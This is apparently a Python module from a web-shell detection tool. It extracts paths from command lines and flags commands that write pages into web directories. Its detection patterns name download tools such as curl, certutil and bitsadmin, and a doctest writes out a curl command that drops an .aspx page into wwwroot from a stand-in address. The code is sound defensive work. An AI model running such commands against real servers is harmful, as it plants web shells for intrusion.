r"""Paths of a command line, each with its part: it is run or read, copied, or written.

A command that writes a page into a web directory restores a web shell. A backup that copies from there does not, and
neither does a deployment of whole folders.

References:
    https://attack.mitre.org/techniques/T1505/003/
    https://attack.mitre.org/techniques/T1105/
"""

import re
from collections.abc import Iterator
from itertools import islice
from typing import Final, NamedTuple

from webshellhunt.knowledge.web_folders import is_in_web_folder, is_page_name
from webshellhunt.lazy_pattern import lazy_pattern

_MOST_PATHS: Final = 20
_MOST_PARTS: Final = 50
_START: Final = r"[a-z]:(?:\\|/(?!/))|%[\w()]{1,40}%[\\/]|\\\\"
_PATH = lazy_pattern(
    rf"(?i)(?:[a-z]:(?:\\|/(?!/))|%[\w()]{{1,40}}%[\\/])"
    rf"(?:(?!\s{{1,8}}(?:[\"']?(?:{_START})|https?:|[-/]\w|&))[^\"'|<>*?;,\r\n]){{1,300}}|\\\\[^\s\"'|<>*?;,]{{3,300}}"
)
_SEPARATOR = lazy_pattern(r"[&|;\r\n]+")
_COPIES = lazy_pattern(
    r"(?i)(?<![\w.\\-])(?:x?copy|robocopy|move|esentutl|expand|copy-item|move-item|cpi|cp|mv|replace)(?:\.exe)?(?=[\s\"'])"
)
_WRITES = lazy_pattern(
    r"(?i)(?<![\w.\\-])(?:curl|wget|certutil|bitsadmin|invoke-webrequest|invoke-restmethod|iwr|irm|start-bitstransfer|"
    r"set-content|add-content|out-file|tee-object|new-item)(?:\.exe)?(?=[\s\"'])|\.downloadfile\(|::writeall\w{4,5}\(|>"
)
_TARGET = lazy_pattern(
    r"(?i)(?:\s(?:-o|--output(?:-dir)?|--output-document|-outf\w*|-dest\w*|-filepath)[\s=:]{0,4}|>\s{0,4})[\"']?$"
)
_EXCLUDED = lazy_pattern(r"(?i)\s/(?:xf|xd|exclude:)")
_WORD = lazy_pattern(r"[^\s\"'(),=]{1,300}")


class NamedPath(NamedTuple):
    """A path of a command line; ``is_page`` is true if the command writes a page of a web directory there."""

    path: str
    is_run: bool = True
    is_page: bool = False


def iter_paths(command: str) -> Iterator[NamedPath]:
    r"""Yield the paths of a command line; those that a command only copies out of a web directory are left out.

    Examples:
        >>> next(iter_paths(r"curl -o C:\inetpub\wwwroot\a.aspx ht" + "tp://192.0.2.7/a"))
        NamedPath(path='C:\\inetpub\\wwwroot\\a.aspx', is_run=False, is_page=True)
        >>> [each.path for each in iter_paths(r"robocopy C:\inetpub\wwwroot D:\Backup")]
        ['D:\\Backup']
    """
    parts = islice(_SEPARATOR.split(command), _MOST_PARTS)
    yield from islice((each for part in parts for each in _paths_of(part)), _MOST_PATHS)


def _paths_of(part: str) -> Iterator[NamedPath]:
    """Yield the paths of one of the commands of a line."""
    found = list(islice(_PATH.finditer(part), _MOST_PATHS))
    copies = _COPIES.search(part) is not None
    if not copies and _WRITES.search(part) is None:
        yield from (NamedPath(_text(each)) for each in found)
        return
    marked = [each for each in found if _TARGET.search(part, max(each.start() - 40, 0), each.start()) is not None]
    target = marked[-1] if marked else found[-1] if len(found) > copies else None
    if target is not None and _is_page(part, target, [each for each in found if each is not target]):
        yield NamedPath(_text(target), is_run=False, is_page=True)
        return
    for each in found:
        if each is target or not is_in_web_folder(f"{_text(each)}\\"):
            yield NamedPath(_text(each), is_run=False)


def _text(found: re.Match[str]) -> str:
    """Return a path; without quotes, its last name ends at the first space."""
    path = found[0].strip()
    if found.string[max(found.start() - 1, 0)] in "\"'":
        return path
    at = max(path.rfind("\\"), path.rfind("/")) + 1
    return path[:at] + path[at:].partition(" ")[0]


def _is_page(part: str, target: re.Match[str], others: list[re.Match[str]]) -> bool:
    """Return True if a target is a page of a web directory, or such a directory and the command names a page."""
    path = _text(target)
    if any(is_in_web_folder(f"{_text(each)}\\") for each in others) or not is_in_web_folder(f"{path}\\"):
        return False
    if "." in path.replace("/", "\\").rpartition("\\")[2]:
        return is_page_name(path)
    words = _WORD.findall(_EXCLUDED.split(part, maxsplit=1)[0])
    return any("*" not in word and is_page_name(word) for word in words)
